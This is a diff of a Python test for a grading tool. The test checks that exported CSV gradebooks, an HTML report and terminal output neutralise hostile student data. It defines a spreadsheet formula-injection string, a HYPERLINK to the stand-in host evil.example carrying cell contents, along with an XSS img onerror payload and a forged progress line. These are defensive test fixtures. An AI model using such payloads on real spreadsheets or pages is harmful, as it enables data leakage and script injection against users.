@@ -17,7 +17,7 @@ from grader.cohort.submissions import collect
 from grader.judging import results_json
 from grader.judging.model import SubmissionResult
 from grader.judging.model import TestResult as Verdict
-from grader.text import clean, csv_cell, safe_name
+from grader.text import PLAIN_ID, clean, csv_cell, safe_name
 
 FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
 FORGED = "mallory\n[9/9] graded mallory: 100/100 in 1.0s, ETA 0:00"
@@ -108,9 +108,9 @@ def test_csv_files_html_and_terminal_lines_are_safe(hostile_class, maxima, capsy
     for name in ("grades.csv", "canvas_grades.csv", "moodle_grades.csv"):
         with open(out / name, newline="", encoding="utf-8") as stream:
             for row in csv.reader(stream):
-                for cell in row:
-                    assert not cell.startswith(STARTS_A_FORMULA) or cell.lstrip("-").replace(".", "").isdigit(), \
-                        (name, cell)
+                for cell in row:  # (a plain id such as `@5000`, a Banner id's form, calls nothing: kept for imports)
+                    assert not cell.startswith(STARTS_A_FORMULA) or cell.lstrip("-").replace(".", "").isdigit() or \
+                        (name != "grades.csv" and PLAIN_ID.fullmatch(cell) and not cell.startswith("=")), (name, cell)
     page = (out / "report.html").read_text(encoding="utf-8")
     assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
     assert "\u202e" not in page and "\x1b" not in page
